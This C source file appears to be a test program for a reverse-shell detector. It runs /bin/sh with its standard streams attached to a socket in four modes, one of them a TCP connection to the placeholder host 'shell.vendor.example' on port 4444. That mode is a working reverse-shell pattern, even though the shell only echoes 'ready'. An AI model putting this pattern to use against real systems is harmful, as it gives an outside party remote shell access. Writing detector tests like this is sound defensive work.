// SPDX-License-Identifier: Apache-2.0
/*
 * shell WAY: run a shell command with its standard streams on a socket. For reverse_shell.
 *
 *   tcp     on a TCP connection to HOST: what a reverse shell is
 *   listen  on a connection that it accepted on loopback: what a remote shell's server is
 *   unix    on one end of a socketpair: how a program talks to its own helper
 *   closed  with a TCP connection open, but not as a standard stream (and closed on exec)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define HOST "shell.vendor.example"
#define PORT "4444"

static int connect_home(void)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM };
	struct addrinfo *address;
	int fd;

	if (getaddrinfo(HOST, PORT, &hints, &address))
		errx(1, "%s: no address", HOST);
	fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || connect(fd, address->ai_addr, address->ai_addrlen))
		err(1, "%s", HOST);
	freeaddrinfo(address);
	return fd;
}

/* A connection that a child of ours makes, as the server has it. */
static int accept_one(void)
{
	struct sockaddr_in here = { .sin_family = AF_INET };
	socklen_t size = sizeof(here);
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;

	here.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(listener, (struct sockaddr *)&here, size) || listen(listener, 1) ||
	    getsockname(listener, (struct sockaddr *)&here, &size))
		err(1, "listen");
	if (!fork()) {
		int client = socket(AF_INET, SOCK_STREAM, 0);
		char byte;

		if (connect(client, (struct sockaddr *)&here, size))
			err(1, "connect");
		_exit(read(client, &byte, 1) != 1);
	}
	fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	if (fd < 0)
		err(1, "accept");
	return fd;
}

/* Run the shell with all three standard streams on fd, or as they are if fd is negative. */
static void run_shell(int fd)
{
	pid_t child = fork();

	if (child == 0) {
		for (int stream = 0; fd >= 0 && stream < 3; stream++)
			dup2(fd, stream);
		execl("/bin/sh", "sh", "-c", "echo ready", NULL);
		_exit(127);
	}
	if (child < 0 || waitpid(child, NULL, 0) < 0)
		err(1, "sh");
}

int main(int argc, char **argv)
{
	const char *way = argc > 1 ? argv[1] : "";
	int pair[2];

	if (!strcmp(way, "tcp")) {
		run_shell(connect_home());
	} else if (!strcmp(way, "listen")) {
		run_shell(accept_one());
	} else if (!strcmp(way, "unix")) {
		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair))
			err(1, "socketpair");
		run_shell(pair[1]);
	} else if (!strcmp(way, "closed")) {
		connect_home();
		run_shell(-1);
	} else {
		errx(2, "usage: shell tcp|listen|unix|closed");
	}
	return 0;
}
